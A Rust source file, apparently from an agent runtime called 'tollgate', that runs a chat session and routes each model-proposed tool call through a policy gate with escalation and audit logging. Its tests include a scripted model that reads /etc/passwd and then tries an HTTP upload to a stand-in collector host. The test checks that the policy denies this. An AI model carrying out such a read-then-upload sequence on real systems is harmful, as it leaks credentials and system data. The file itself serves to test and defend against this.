//! Session loop.
//!
//! A [`SessionRuntime`] drives one conversation at a time: it reads user
//! input from a [`ChatSurface`], asks the model for a completion over the
//! bounded context view, sends every proposed tool call through the gate and
//! records the results in a deterministic order before the next turn.

use std::collections::{HashSet, VecDeque};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use async_trait::async_trait;
use tokio::sync::watch;
use tokio::time::{sleep, timeout};
use tollgate_escalation::EscalationDispatcher;
use tollgate_gate::ToolInvocationGate;
use tollgate_protocol::{
    KernelError, KernelResult, Message, ModelCompletion, ModelCompletionRequest,
    ModelProviderPort, ProposedToolCall, TerminationReason, ToolCall, ToolCallId, ToolResult,
};
use tollgate_tools::ToolRegistry;
use tracing::{debug, error, info, instrument, warn};

mod context;
mod dispatch;
mod model;
mod session;

pub use context::{ContextConfig, ContextWindow};
pub use model::HttpModelBridge;
pub use session::{CancelHandle, Session, SessionDirectory};

use dispatch::CallPipeline;

#[derive(Debug, Clone)]
pub struct RuntimeConfig {
    /// Model turns allowed for one user input before the session ends.
    pub max_turns: u32,
    pub system_prompt: Option<String>,
    /// Messages assumed as provenance when the model gives none or names
    /// unknown ids.
    pub provenance_window: usize,
    pub max_parallel_calls: usize,
    pub model_timeout: Duration,
    pub model_attempts: u32,
    pub retry_initial: Duration,
    pub retry_factor: u32,
    pub context: ContextConfig,
}

impl Default for RuntimeConfig {
    fn default() -> Self {
        Self {
            max_turns: 25,
            system_prompt: None,
            provenance_window: 50,
            max_parallel_calls: 4,
            model_timeout: Duration::from_secs(120),
            model_attempts: 3,
            retry_initial: Duration::from_secs(1),
            retry_factor: 2,
            context: ContextConfig::default(),
        }
    }
}

/// Where user input comes from and assistant text goes to.
#[async_trait]
pub trait ChatSurface: Send {
    /// `None` when the user is gone.
    async fn next_input(&mut self) -> KernelResult<Option<String>>;

    async fn show_assistant(&mut self, text: &str) -> KernelResult<()>;
}

/// Canned input, for tests and one-shot runs.
#[derive(Debug, Default)]
pub struct ScriptedSurface {
    inputs: VecDeque<String>,
    transcript: Vec<String>,
}

impl ScriptedSurface {
    pub fn new<I, S>(inputs: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            inputs: inputs.into_iter().map(Into::into).collect(),
            transcript: Vec::new(),
        }
    }

    /// Assistant text shown so far.
    pub fn transcript(&self) -> &[String] {
        &self.transcript
    }
}

#[async_trait]
impl ChatSurface for ScriptedSurface {
    async fn next_input(&mut self) -> KernelResult<Option<String>> {
        Ok(self.inputs.pop_front())
    }

    async fn show_assistant(&mut self, text: &str) -> KernelResult<()> {
        self.transcript.push(text.to_owned());
        Ok(())
    }
}

/// What one model turn produced.
#[derive(Debug, Clone, Default)]
pub struct TurnOutcome {
    pub text: Option<String>,
    pub dispatched: usize,
}

fn is_exit(input: &str) -> bool {
    input.is_empty() || input.eq_ignore_ascii_case("exit") || input.eq_ignore_ascii_case("quit")
}

async fn wait_cancelled(cancelled: &mut watch::Receiver<bool>) {
    if cancelled.wait_for(|cancelled| *cancelled).await.is_err() {
        std::future::pending::<()>().await;
    }
}

/// Give every call still waiting for a result an error result, so the
/// final history pairs each call with exactly one result.
fn settle_unanswered(session: &mut Session, note: &str) {
    for call_id in session.context.unanswered_calls() {
        debug!(%call_id, note, "recording result for unanswered call");
        if let Err(error) = session
            .context
            .append(Message::tool(ToolResult::error(call_id, note)))
        {
            warn!(%error, "failed to record result for unanswered call");
        }
    }
}

fn fatal(error: &anyhow::Error) -> TerminationReason {
    TerminationReason::FatalError {
        error: format!("{error:#}"),
    }
}

#[derive(Clone)]
pub struct SessionRuntime {
    config: RuntimeConfig,
    model: Arc<dyn ModelProviderPort>,
    pipeline: CallPipeline,
    directory: SessionDirectory,
}

impl SessionRuntime {
    pub fn new(
        config: RuntimeConfig,
        model: Arc<dyn ModelProviderPort>,
        gate: ToolInvocationGate,
        registry: Arc<ToolRegistry>,
        escalation: EscalationDispatcher,
        directory: SessionDirectory,
    ) -> Self {
        Self {
            config,
            model,
            pipeline: CallPipeline {
                gate,
                registry,
                escalation,
            },
            directory,
        }
    }

    pub fn config(&self) -> &RuntimeConfig {
        &self.config
    }

    pub fn directory(&self) -> &SessionDirectory {
        &self.directory
    }

    pub fn registry(&self) -> &ToolRegistry {
        &self.pipeline.registry
    }

    pub fn gate(&self) -> &ToolInvocationGate {
        &self.pipeline.gate
    }

    pub fn open_session(&self) -> Session {
        let session = Session::new(self.config.context.clone());
        info!(session_id = %session.id(), "session opened");
        self.publish(&session);
        session
    }

    fn publish(&self, session: &Session) {
        self.directory
            .publish(session.snapshot(self.pipeline.gate.active_policy().id()));
    }

    /// Run the session until the user leaves, the turn limit is hit, the
    /// model provider gives up or the session is cancelled.
    #[instrument(skip(self, session, initial_input, surface), fields(session_id = %session.id()))]
    pub async fn run(
        &self,
        session: &mut Session,
        initial_input: Option<String>,
        surface: &mut dyn ChatSurface,
    ) -> TerminationReason {
        let mut cancelled = session.cancelled.clone();
        let (reason, note) = tokio::select! {
            reason = self.drive(session, initial_input, surface) => (reason, "session ended"),
            _ = wait_cancelled(&mut cancelled) => {
                info!("session cancelled");
                (TerminationReason::UserExit, "session cancelled")
            }
        };
        settle_unanswered(session, note);
        session.status = reason.final_status();
        session.termination = Some(reason.clone());
        self.publish(session);
        info!(?reason, turns = session.turns, "session terminated");
        reason
    }

    async fn drive(
        &self,
        session: &mut Session,
        initial_input: Option<String>,
        surface: &mut dyn ChatSurface,
    ) -> TerminationReason {
        if session.context.is_empty() {
            if let Some(prompt) = &self.config.system_prompt {
                if let Err(error) = session.context.append(Message::system(prompt.clone())) {
                    return fatal(&error.into());
                }
            }
        }

        let mut pending = initial_input;
        loop {
            let input = match pending.take() {
                Some(input) => Some(input),
                None => surface.next_input().await.unwrap_or_else(|error| {
                    warn!(%error, "input source failed");
                    None
                }),
            };
            let Some(input) = input else {
                return TerminationReason::UserExit;
            };
            let input = input.trim();
            if is_exit(input) {
                return TerminationReason::UserExit;
            }
            if let Err(error) = session.context.append(Message::user(input)) {
                return fatal(&error.into());
            }
            self.publish(session);

            let mut turns = 0;
            loop {
                if turns >= self.config.max_turns {
                    warn!(max_turns = self.config.max_turns, "turn limit reached");
                    return TerminationReason::MaxTurns;
                }
                turns += 1;
                match self.run_turn(session).await {
                    Ok(outcome) => {
                        if let Some(text) = outcome.text.as_deref().filter(|t| !t.trim().is_empty())
                        {
                            if let Err(error) = surface.show_assistant(text).await {
                                warn!(%error, "failed to show assistant text");
                            }
                        }
                        if outcome.dispatched == 0 {
                            break;
                        }
                    }
                    Err(error) => {
                        error!(error = %format!("{error:#}"), "turn failed");
                        return fatal(&error);
                    }
                }
            }
        }
    }

    /// One model turn: complete over the bounded view, record the assistant
    /// message, dispatch its tool calls and record their results.
    #[instrument(skip(self, session), fields(session_id = %session.id(), turn = session.turns + 1))]
    pub async fn run_turn(&self, session: &mut Session) -> Result<TurnOutcome> {
        session.turns += 1;
        let context = session.context.snapshot_for_model(self.model.as_ref()).await;
        let request = ModelCompletionRequest {
            session_id: session.id().clone(),
            turn: session.turns,
            context,
            tools: self.pipeline.registry.descriptors(),
        };
        let completion = self.complete_with_retry(request).await?;

        let calls = self.adopt_calls(session, completion.tool_calls);
        session
            .context
            .append(Message::assistant(
                completion.text.clone().unwrap_or_default(),
                calls.clone(),
            ))
            .context("failed to record assistant message")?;
        self.publish(session);

        if calls.is_empty() {
            return Ok(TurnOutcome {
                text: completion.text,
                dispatched: 0,
            });
        }

        let order = dispatch::recording_order(&calls, &session.context);
        let results = dispatch::dispatch_calls(
            &self.pipeline,
            session.id(),
            &calls,
            &order,
            self.config.max_parallel_calls,
        )
        .await;
        for result in results {
            session
                .context
                .append(Message::tool(result))
                .context("failed to record tool result")?;
        }
        self.publish(session);

        Ok(TurnOutcome {
            text: completion.text,
            dispatched: calls.len(),
        })
    }

    /// Give proposed calls stable ids and trustworthy provenance.
    fn adopt_calls(&self, session: &Session, proposed: Vec<ProposedToolCall>) -> Vec<ToolCall> {
        let history = &session.context;
        let fallback = history.recent_ids(self.config.provenance_window);
        let mut seen = HashSet::new();
        proposed
            .into_iter()
            .map(|proposal| {
                let id = proposal
                    .id
                    .filter(|id| !id.trim().is_empty())
                    .map(ToolCallId::from)
                    .filter(|id| !history.has_call(id) && !seen.contains(id))
                    .unwrap_or_default();
                seen.insert(id.clone());

                let provenance = match proposal.provenance {
                    Some(ids) if !ids.is_empty() && ids.iter().all(|id| history.contains(id)) => {
                        ids.into_iter().collect()
                    }
                    Some(ids) => {
                        warn!(
                            call_id = %id,
                            tool = %proposal.tool_name,
                            supplied = ids.len(),
                            "unusable provenance, assuming recent history"
                        );
                        fallback.clone()
                    }
                    None => fallback.clone(),
                };

                ToolCall {
                    id,
                    tool_name: proposal.tool_name,
                    arguments: proposal.arguments,
                    provenance,
                }
            })
            .collect()
    }

    async fn complete_with_retry(&self, request: ModelCompletionRequest) -> Result<ModelCompletion> {
        let attempts = self.config.model_attempts.max(1);
        let mut delay = self.config.retry_initial;
        let mut last_error = None;
        for attempt in 1..=attempts {
            let error = match timeout(self.config.model_timeout, self.model.complete(request.clone()))
                .await
            {
                Ok(Ok(completion)) => {
                    debug!(attempt, tool_calls = completion.tool_calls.len(), "model completed");
                    return Ok(completion);
                }
                Ok(Err(error)) => error,
                Err(_) => KernelError::timeout("model completion", self.config.model_timeout),
            };
            if attempt < attempts {
                warn!(
                    attempt,
                    attempts,
                    retry_in_ms = u64::try_from(delay.as_millis()).unwrap_or(u64::MAX),
                    %error,
                    "model call failed, retrying"
                );
                sleep(delay).await;
                delay = delay.saturating_mul(self.config.retry_factor);
            }
            last_error = Some(error);
        }
        let error = last_error
            .unwrap_or_else(|| KernelError::ModelProvider("no completion attempted".to_owned()));
        Err(anyhow::Error::new(error))
            .with_context(|| format!("model provider failed after {attempts} attempts"))
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;
    use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};

    use anyhow::Result;
    use parking_lot::Mutex;
    use serde_json::{Value, json};
    use tollgate_audit::AuditQueue;
    use tollgate_escalation::{ApprovalQueue, AutoDenyHandler, QueueHandler};
    use tollgate_gate::{ActivePolicy, GateConfig};
    use tollgate_protocol::{
        EscalationHandler, MessageId, PolicyDecisionPort, PolicyDecisionRequest, PolicySet,
        PolicyVerdict, RiskLevel, Role, SessionStatus, ToolDescriptor, ToolInvocationOutput,
        ToolOutcome, ToolTransportPort,
    };
    use tollgate_tools::ToolClassification;

    use super::*;

    type Turn = Box<dyn Fn(&ModelCompletionRequest) -> ModelCompletion + Send + Sync>;

    /// Plays back one closure per turn, then answers with plain text.
    #[derive(Default)]
    struct ScriptedModel {
        turns: Mutex<VecDeque<Turn>>,
        requests: Mutex<Vec<ModelCompletionRequest>>,
    }

    impl ScriptedModel {
        fn new(turns: Vec<Turn>) -> Arc<Self> {
            Arc::new(Self {
                turns: Mutex::new(turns.into()),
                requests: Mutex::default(),
            })
        }
    }

    #[async_trait]
    impl ModelProviderPort for ScriptedModel {
        async fn complete(&self, request: ModelCompletionRequest) -> KernelResult<ModelCompletion> {
            let turn = self.turns.lock().pop_front();
            let completion = match turn {
                Some(turn) => turn(&request),
                None => text("done"),
            };
            self.requests.lock().push(request);
            Ok(completion)
        }
    }

    /// Fails the first `failures` calls.
    struct FlakyModel {
        failures: u32,
        attempts: AtomicU32,
    }

    #[async_trait]
    impl ModelProviderPort for FlakyModel {
        async fn complete(&self, _request: ModelCompletionRequest) -> KernelResult<ModelCompletion> {
            let attempt = self.attempts.fetch_add(1, Ordering::SeqCst);
            if attempt < self.failures {
                Err(KernelError::ModelProvider("503 service unavailable".into()))
            } else {
                Ok(text("recovered"))
            }
        }
    }

    /// Always proposes another read.
    struct LoopingModel;

    #[async_trait]
    impl ModelProviderPort for LoopingModel {
        async fn complete(&self, _request: ModelCompletionRequest) -> KernelResult<ModelCompletion> {
            Ok(calls(vec![proposal("filesystem_read", json!({"path": "/tmp/a"}), None)]))
        }
    }

    struct RuleDecisions(Box<dyn Fn(&PolicyDecisionRequest) -> PolicyVerdict + Send + Sync>);

    #[async_trait]
    impl PolicyDecisionPort for RuleDecisions {
        async fn evaluate(&self, request: PolicyDecisionRequest) -> KernelResult<PolicyVerdict> {
            Ok((self.0)(&request))
        }
    }

    #[derive(Default)]
    struct FakeTools {
        invoked: Mutex<Vec<String>>,
        inflight: AtomicUsize,
        max_inflight: AtomicUsize,
    }

    #[async_trait]
    impl ToolTransportPort for FakeTools {
        fn name(&self) -> &str {
            "fake"
        }

        async fn list_tools(&self) -> KernelResult<Vec<ToolDescriptor>> {
            Ok(["filesystem_read", "http_fetch"]
                .into_iter()
                .map(|name| ToolDescriptor {
                    name: name.to_owned(),
                    description: String::new(),
                    input_schema: json!({"type": "object"}),
                })
                .collect())
        }

        async fn call_tool(&self, name: &str, arguments: Value) -> KernelResult<ToolInvocationOutput> {
            self.invoked.lock().push(name.to_owned());
            let now = self.inflight.fetch_add(1, Ordering::SeqCst) + 1;
            self.max_inflight.fetch_max(now, Ordering::SeqCst);
            if arguments["hang"].as_bool() == Some(true) {
                sleep(Duration::from_secs(3600)).await;
            }
            if let Some(ms) = arguments["sleep_ms"].as_u64() {
                sleep(Duration::from_millis(ms)).await;
            }
            self.inflight.fetch_sub(1, Ordering::SeqCst);
            let content = match arguments["path"].as_str() {
                Some("/etc/passwd") => "root:x:0:0:root:/root:/bin/bash".to_owned(),
                Some(path) => format!("contents of {path}"),
                None => "HTTP 200\n\nok".to_owned(),
            };
            Ok(ToolInvocationOutput {
                content,
                is_error: false,
            })
        }
    }

    fn text(text: &str) -> ModelCompletion {
        ModelCompletion {
            text: Some(text.to_owned()),
            tool_calls: Vec::new(),
        }
    }

    fn calls(tool_calls: Vec<ProposedToolCall>) -> ModelCompletion {
        ModelCompletion {
            text: None,
            tool_calls,
        }
    }

    fn proposal(tool: &str, arguments: Value, provenance: Option<Vec<MessageId>>) -> ProposedToolCall {
        ProposedToolCall {
            id: None,
            tool_name: tool.to_owned(),
            arguments,
            provenance,
        }
    }

    fn allow_all() -> Arc<dyn PolicyDecisionPort> {
        Arc::new(RuleDecisions(Box::new(|_| PolicyVerdict::Allow)))
    }

    struct Harness {
        runtime: SessionRuntime,
        tools: Arc<FakeTools>,
        audit: AuditQueue,
    }

    async fn harness(
        config: RuntimeConfig,
        model: Arc<dyn ModelProviderPort>,
        decisions: Arc<dyn PolicyDecisionPort>,
        handler: Arc<dyn EscalationHandler>,
    ) -> Harness {
        harness_with(config, model, decisions, handler, SessionDirectory::default()).await
    }

    async fn harness_with(
        config: RuntimeConfig,
        model: Arc<dyn ModelProviderPort>,
        decisions: Arc<dyn PolicyDecisionPort>,
        handler: Arc<dyn EscalationHandler>,
        directory: SessionDirectory,
    ) -> Harness {
        let tools = Arc::new(FakeTools::default());
        let classifications = HashMap::from([
            (
                "filesystem_read".to_owned(),
                ToolClassification {
                    risk: RiskLevel::Low,
                    category: Some("filesystem".into()),
                },
            ),
            (
                "http_fetch".to_owned(),
                ToolClassification {
                    risk: RiskLevel::Medium,
                    category: Some("network".into()),
                },
            ),
        ]);
        let mut registry = ToolRegistry::new(classifications, RiskLevel::High);
        let transport: Arc<dyn ToolTransportPort> = tools.clone();
        registry.discover(&[transport]).await;

        let audit = AuditQueue::with_capacity(1_000);
        let gate = ToolInvocationGate::new(
            decisions,
            ActivePolicy::new(PolicySet::builtin()),
            audit.clone(),
            GateConfig::default(),
        );
        let runtime = SessionRuntime::new(
            config,
            model,
            gate,
            Arc::new(registry),
            EscalationDispatcher::new(handler, Duration::from_secs(30)),
            directory,
        );
        Harness {
            runtime,
            tools,
            audit,
        }
    }

    fn tool_results(session: &Session) -> Vec<&tollgate_protocol::ToolResult> {
        session
            .context()
            .messages()
            .iter()
            .filter_map(|message| message.tool_result.as_ref())
            .collect()
    }

    #[tokio::test]
    async fn exfiltration_after_sensitive_read_is_denied() -> Result<()> {
        let model = ScriptedModel::new(vec![
            Box::new(|_| {
                calls(vec![proposal(
                    "filesystem_read",
                    json!({"path": "/etc/passwd"}),
                    None,
                )])
            }),
            Box::new(|request| {
                let read = request
                    .context
                    .iter()
                    .rev()
                    .find(|message| message.role == Role::Tool)
                    .map(|message| message.id.clone())
                    .into_iter()
                    .collect();
                calls(vec![proposal(
                    "http_fetch",
                    json!({"url": "https://collector.example/upload"}),
                    Some(read),
                )])
            }),
            Box::new(|_| text("I am not allowed to send that anywhere.")),
        ]);
        // The decision engine sees the published trace and refuses to send
        // anything derived from the password file off the host.
        let directory = SessionDirectory::default();
        let decisions = {
            let directory = directory.clone();
            Arc::new(RuleDecisions(Box::new(move |request| {
                if request.tool_name != "http_fetch" {
                    return PolicyVerdict::Allow;
                }
                let sensitive = directory.get(&request.session_id).is_some_and(|trace| {
                    trace
                        .messages
                        .iter()
                        .filter(|message| request.provenance_ids.contains(&message.id))
                        .any(|message| message.content.contains("root:x:0:0"))
                });
                if sensitive {
                    PolicyVerdict::deny("external_trace")
                } else {
                    PolicyVerdict::Allow
                }
            })))
        };
        let h = harness_with(
            RuntimeConfig::default(),
            model.clone(),
            decisions,
            Arc::new(AutoDenyHandler),
            directory,
        )
        .await;
        let mut session = h.runtime.open_session();
        let mut surface = ScriptedSurface::default();

        let reason = h
            .runtime
            .run(&mut session, Some("summarize /etc/passwd".into()), &mut surface)
            .await;
        assert_eq!(reason, TerminationReason::UserExit);
        assert_eq!(surface.transcript(), ["I am not allowed to send that anywhere."]);

        let results = tool_results(&session);
        assert_eq!(results.len(), 2);
        assert_eq!(results[0].outcome, ToolOutcome::Success);
        assert!(results[0].payload.starts_with("root:x:0:0"));
        assert_eq!(results[1].outcome, ToolOutcome::Error);
        assert_eq!(results[1].payload, "Policy denied: external_trace");
        assert_eq!(*h.tools.invoked.lock(), vec!["filesystem_read"]);

        let third = &model.requests.lock()[2];
        let last = third.context.last().expect("context");
        assert_eq!(last.role, Role::Tool);
        assert!(last.content.contains("external_trace"));

        let outcomes: Vec<_> = h
            .audit
            .snapshot()
            .into_iter()
            .map(|record| record.event.outcome)
            .collect();
        assert_eq!(outcomes, vec![ToolOutcome::Success, ToolOutcome::Denied]);

        let snapshot = h.runtime.directory().get(session.id()).expect("published");
        assert_eq!(snapshot.status, SessionStatus::Ended);
        assert_eq!(snapshot.termination, Some(TerminationReason::UserExit));
        Ok(())
    }

    #[tokio::test]
    async fn scripted_run_reaches_assistant_text() -> Result<()> {
        let model = ScriptedModel::new(vec![
            Box::new(|_| calls(vec![proposal("filesystem_read", json!({"path": "/tmp/notes"}), None)])),
            Box::new(|_| text("notes read")),
        ]);
        let config = RuntimeConfig {
            system_prompt: Some("You are careful.".into()),
            ..RuntimeConfig::default()
        };
        let h = harness(config, model.clone(), allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();
        let mut surface = ScriptedSurface::new(["", "ignored"]);

        let reason = h
            .runtime
            .run(&mut session, Some("read my notes".into()), &mut surface)
            .await;

        assert_eq!(reason, TerminationReason::UserExit);
        assert_eq!(surface.transcript(), ["notes read"]);
        let roles: Vec<_> = session.context().messages().iter().map(|m| m.role).collect();
        assert_eq!(
            roles,
            vec![Role::System, Role::User, Role::Assistant, Role::Tool, Role::Assistant]
        );
        assert_eq!(model.requests.lock()[0].tools.len(), 2);
        assert_eq!(session.turns(), 2);
        Ok(())
    }

    #[tokio::test]
    async fn exit_input_ends_without_model_call() -> Result<()> {
        let model = ScriptedModel::new(Vec::new());
        let h = harness(RuntimeConfig::default(), model.clone(), allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();
        let mut surface = ScriptedSurface::default();

        let reason = h.runtime.run(&mut session, Some("  EXIT ".into()), &mut surface).await;

        assert_eq!(reason, TerminationReason::UserExit);
        assert!(model.requests.lock().is_empty());
        assert_eq!(session.status(), SessionStatus::Ended);
        Ok(())
    }

    #[tokio::test(start_paused = true)]
    async fn exhausted_retries_end_session_with_fatal_error() -> Result<()> {
        let model = Arc::new(FlakyModel {
            failures: u32::MAX,
            attempts: AtomicU32::new(0),
        });
        let h = harness(RuntimeConfig::default(), model.clone(), allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();
        let mut surface = ScriptedSurface::default();
        let started = tokio::time::Instant::now();

        let reason = h.runtime.run(&mut session, Some("hello".into()), &mut surface).await;

        match &reason {
            TerminationReason::FatalError { error } => {
                assert!(error.contains("after 3 attempts"), "{error}");
                assert!(error.contains("503"), "{error}");
            }
            other => panic!("expected fatal error, got {other:?}"),
        }
        assert_eq!(model.attempts.load(Ordering::SeqCst), 3);
        assert!(started.elapsed() >= Duration::from_secs(3));
        assert_eq!(session.status(), SessionStatus::Errored);
        let snapshot = h.runtime.directory().get(session.id()).expect("published");
        assert_eq!(snapshot.status, SessionStatus::Errored);
        Ok(())
    }

    #[tokio::test(start_paused = true)]
    async fn transient_model_failure_is_retried() -> Result<()> {
        let model = Arc::new(FlakyModel {
            failures: 1,
            attempts: AtomicU32::new(0),
        });
        let h = harness(RuntimeConfig::default(), model.clone(), allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();
        let mut surface = ScriptedSurface::default();

        let reason = h.runtime.run(&mut session, Some("hello".into()), &mut surface).await;

        assert_eq!(reason, TerminationReason::UserExit);
        assert_eq!(model.attempts.load(Ordering::SeqCst), 2);
        assert_eq!(surface.transcript(), ["recovered"]);
        Ok(())
    }

    #[tokio::test(start_paused = true)]
    async fn results_follow_provenance_order_not_completion_order() -> Result<()> {
        let model = ScriptedModel::new(vec![Box::new(|request| {
            let system = request.context[0].id.clone();
            let user = request.context[1].id.clone();
            calls(vec![
                proposal("http_fetch", json!({"sleep_ms": 50}), Some(vec![user])),
                proposal("filesystem_read", json!({"path": "/tmp/fast"}), Some(vec![system])),
            ])
        })]);
        let config = RuntimeConfig {
            system_prompt: Some("sys".into()),
            ..RuntimeConfig::default()
        };
        let h = harness(config, model, allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();

        let reason = h
            .runtime
            .run(&mut session, Some("go".into()), &mut ScriptedSurface::default())
            .await;
        assert_eq!(reason, TerminationReason::UserExit);

        let assistant = &session.context().messages()[2];
        let (fetch, read) = (&assistant.tool_calls[0], &assistant.tool_calls[1]);
        let results = tool_results(&session);
        assert_eq!(results[0].call_id, read.id);
        assert_eq!(results[1].call_id, fetch.id);
        Ok(())
    }

    #[tokio::test(start_paused = true)]
    async fn calls_sharing_provenance_run_one_at_a_time() -> Result<()> {
        let model = ScriptedModel::new(vec![Box::new(|request| {
            let user = request.context[0].id.clone();
            calls(vec![
                proposal("http_fetch", json!({"sleep_ms": 20}), Some(vec![user.clone()])),
                proposal("http_fetch", json!({"sleep_ms": 20}), Some(vec![user])),
            ])
        })]);
        let h = harness(RuntimeConfig::default(), model, allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();

        h.runtime
            .run(&mut session, Some("go".into()), &mut ScriptedSurface::default())
            .await;

        assert_eq!(h.tools.invoked.lock().len(), 2);
        assert_eq!(h.tools.max_inflight.load(Ordering::SeqCst), 1);
        let audit = h.audit.snapshot();
        let assistant = &session.context().messages()[1];
        assert_eq!(audit[0].event.call.id, assistant.tool_calls[0].id);
        assert_eq!(audit[1].event.call.id, assistant.tool_calls[1].id);
        Ok(())
    }

    #[tokio::test]
    async fn independent_calls_run_concurrently() -> Result<()> {
        let model = ScriptedModel::new(vec![Box::new(|_| {
            calls(vec![
                proposal("http_fetch", json!({"sleep_ms": 50}), Some(Vec::new())),
                proposal("http_fetch", json!({"sleep_ms": 50}), None),
            ])
        })]);
        let config = RuntimeConfig {
            // An empty recent window leaves calls without provenance.
            provenance_window: 0,
            ..RuntimeConfig::default()
        };
        let h = harness(config, model, allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();

        h.runtime
            .run(&mut session, Some("go".into()), &mut ScriptedSurface::default())
            .await;

        assert_eq!(h.tools.max_inflight.load(Ordering::SeqCst), 2);
        Ok(())
    }

    #[tokio::test]
    async fn unknown_provenance_is_replaced_by_recent_history() -> Result<()> {
        let model = ScriptedModel::new(vec![Box::new(|_| {
            calls(vec![proposal(
                "filesystem_read",
                json!({"path": "/tmp/x"}),
                Some(vec![MessageId::from_string("made-up")]),
            )])
        })]);
        let h = harness(RuntimeConfig::default(), model, allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();

        h.runtime
            .run(&mut session, Some("read".into()), &mut ScriptedSurface::default())
            .await;

        let messages = session.context().messages();
        let provenance = &messages[1].tool_calls[0].provenance;
        assert!(provenance.contains(&messages[0].id));
        assert!(!provenance.contains(&MessageId::from_string("made-up")));
        Ok(())
    }

    #[tokio::test(start_paused = true)]
    async fn unanswered_escalation_times_out_as_denial() -> Result<()> {
        let model = ScriptedModel::new(vec![Box::new(|_| {
            calls(vec![proposal("http_fetch", json!({"url": "https://intranet"}), None)])
        })]);
        let decisions: Arc<dyn PolicyDecisionPort> = Arc::new(RuleDecisions(Box::new(|_| {
            PolicyVerdict::escalate("fetch from intranet?")
        })));
        let approvals = ApprovalQueue::default();
        let h = harness(
            RuntimeConfig::default(),
            model,
            decisions,
            Arc::new(QueueHandler::new(approvals.clone())),
        )
        .await;
        let mut session = h.runtime.open_session();
        let started = tokio::time::Instant::now();

        h.runtime
            .run(&mut session, Some("fetch".into()), &mut ScriptedSurface::default())
            .await;

        assert!(started.elapsed() >= Duration::from_secs(30));
        let results = tool_results(&session);
        assert_eq!(results[0].outcome, ToolOutcome::EscalationTimeout);
        assert!(h.tools.invoked.lock().is_empty());
        assert!(approvals.pending().is_empty());
        assert_eq!(
            h.audit.snapshot()[0].event.outcome,
            ToolOutcome::EscalationTimeout
        );
        Ok(())
    }

    #[tokio::test]
    async fn turn_limit_ends_session() -> Result<()> {
        let config = RuntimeConfig {
            max_turns: 3,
            ..RuntimeConfig::default()
        };
        let h = harness(config, Arc::new(LoopingModel), allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();

        let reason = h
            .runtime
            .run(&mut session, Some("loop".into()), &mut ScriptedSurface::default())
            .await;

        assert_eq!(reason, TerminationReason::MaxTurns);
        assert_eq!(session.turns(), 3);
        assert_eq!(session.status(), SessionStatus::Ended);
        assert_eq!(h.audit.len(), 3);
        Ok(())
    }

    #[tokio::test(start_paused = true)]
    async fn cancel_aborts_running_tool() -> Result<()> {
        let model = ScriptedModel::new(vec![Box::new(|_| {
            calls(vec![proposal("http_fetch", json!({"hang": true}), None)])
        })]);
        let h = harness(RuntimeConfig::default(), model, allow_all(), Arc::new(AutoDenyHandler)).await;
        let mut session = h.runtime.open_session();
        let cancel = session.cancel_handle();
        tokio::spawn(async move {
            sleep(Duration::from_secs(1)).await;
            cancel.cancel();
        });

        let reason = h
            .runtime
            .run(&mut session, Some("fetch".into()), &mut ScriptedSurface::default())
            .await;

        assert_eq!(reason, TerminationReason::UserExit);
        assert_eq!(session.status(), SessionStatus::Ended);
        for _ in 0..100 {
            if !h.audit.is_empty() {
                break;
            }
            sleep(Duration::from_millis(10)).await;
        }
        let audit = h.audit.snapshot();
        assert_eq!(audit.len(), 1);
        assert_eq!(audit[0].event.outcome, ToolOutcome::Error);

        let messages = session.context().messages();
        let issued: Vec<_> = messages
            .iter()
            .flat_map(|m| &m.tool_calls)
            .map(|c| c.id.clone())
            .collect();
        let answered: Vec<_> = messages
            .iter()
            .filter_map(|m| m.tool_result.as_ref())
            .collect();
        assert_eq!(issued.len(), 1);
        assert_eq!(answered.len(), 1);
        assert_eq!(answered[0].call_id, issued[0]);
        assert_eq!(answered[0].outcome, ToolOutcome::Error);
        assert!(session.context().unanswered_calls().is_empty());

        let published = h.runtime.directory().get(session.id()).expect("published");
        assert_eq!(published.messages.len(), messages.len());
        Ok(())
    }
}
